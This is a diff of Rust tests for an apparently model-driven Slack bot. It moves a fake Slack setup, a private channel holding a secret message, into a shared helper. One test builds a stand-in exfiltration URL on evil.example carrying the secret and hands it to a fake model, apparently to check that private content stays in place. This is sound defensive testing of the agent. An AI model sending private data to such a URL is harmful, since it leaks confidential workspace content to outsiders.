@@ -909,6 +909,27 @@ async fn fifty_wrong_tokens_are_throttled_and_counted() {
     child.wait().unwrap();
 }
 
+/// A fake Slack with a public channel (C0PUBLIC) and a private one (C0SECRET) whose
+/// members are U0MEMBER and the bot and whose history holds `secret`; U0MEMBER's DM is
+/// D0MEMBER.
+async fn secret_channel_slack(secret: &'static str) -> (String, SlackCalls) {
+    fake_slack_api(move |method, body| match method {
+        "conversations.info" => {
+            let private = body.contains("C0SECRET");
+            json!({"ok": true, "channel": {"id": if private { "C0SECRET" } else { "C0PUBLIC" },
+                "is_channel": true, "is_private": private, "is_im": false, "is_mpim": false}})
+        }
+        "conversations.members" => json!({"ok": true, "members": ["U0MEMBER", "UBOT"],
+            "response_metadata": {"next_cursor": ""}}),
+        "conversations.history" => json!({"ok": true, "has_more": false, "messages": [
+            {"type": "message", "user": "U0MEMBER", "text": format!("SECRET: {secret}"), "ts": "1700000000.000001"}]}),
+        "conversations.replies" => json!({"ok": true, "has_more": false, "messages": []}),
+        "conversations.open" => json!({"ok": true, "channel": {"id": "D0MEMBER"}}),
+        _ => json!({"ok": true, "ts": "1700000009.000100", "channel": "C0PUBLIC"}),
+    })
+    .await
+}
+
 /// Polls `check` for up to 20 s.
 async fn until(what: &str, check: impl Fn() -> bool) {
     for _ in 0..400 {
@@ -929,21 +950,7 @@ async fn until(what: &str, check: impl Fn() -> bool) {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content_in_place() {
     let secret = "merger with Globex closes in May";
-    let (api, calls) = fake_slack_api(move |method, body| match method {
-        "conversations.info" => {
-            let private = body.contains("C0SECRET");
-            json!({"ok": true, "channel": {"id": if private { "C0SECRET" } else { "C0PUBLIC" },
-                "is_channel": true, "is_private": private, "is_im": false, "is_mpim": false}})
-        }
-        "conversations.members" => json!({"ok": true, "members": ["U0MEMBER", "UBOT"],
-            "response_metadata": {"next_cursor": ""}}),
-        "conversations.history" => json!({"ok": true, "has_more": false, "messages": [
-            {"type": "message", "user": "U0MEMBER", "text": format!("SECRET: {secret}"), "ts": "1700000000.000001"}]}),
-        "conversations.replies" => json!({"ok": true, "has_more": false, "messages": []}),
-        "conversations.open" => json!({"ok": true, "channel": {"id": "D0MEMBER"}}),
-        _ => json!({"ok": true, "ts": "1700000009.000100", "channel": "C0PUBLIC"}),
-    })
-    .await;
+    let (api, calls) = secret_channel_slack(secret).await;
     let fake = support::FakeModel::start().await;
     let evil = format!("https://evil.example/collect?q={}", secret.replace(' ', "+"));
     let evil_for_model = evil.clone();
@@ -1170,21 +1177,7 @@ async fn the_bot_reads_private_channels_only_for_members_and_keeps_their_content
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_subagents_private_read_comes_back_to_its_parent_as_private() {
     let secret = "layoffs planned for March";
-    let (api, calls) = fake_slack_api(move |method, body| match method {
-        "conversations.info" => {
-            let private = body.contains("C0SECRET");
-            json!({"ok": true, "channel": {"id": if private { "C0SECRET" } else { "C0PUBLIC" },
-                "is_channel": true, "is_private": private, "is_im": false, "is_mpim": false}})
-        }
-        "conversations.members" => json!({"ok": true, "members": ["U0MEMBER", "UBOT"],
-            "response_metadata": {"next_cursor": ""}}),
-        "conversations.history" => json!({"ok": true, "has_more": false, "messages": [
-            {"type": "message", "user": "U0MEMBER", "text": format!("SECRET: {secret}"), "ts": "1700000000.000001"}]}),
-        "conversations.replies" => json!({"ok": true, "has_more": false, "messages": []}),
-        "conversations.open" => json!({"ok": true, "channel": {"id": "D0MEMBER"}}),
-        _ => json!({"ok": true, "ts": "1700000009.000100", "channel": "C0PUBLIC"}),
-    })
-    .await;
+    let (api, calls) = secret_channel_slack(secret).await;
     let fake = support::FakeModel::start().await;
     fake.handler(move |body| {
         let parent = body["tools"]
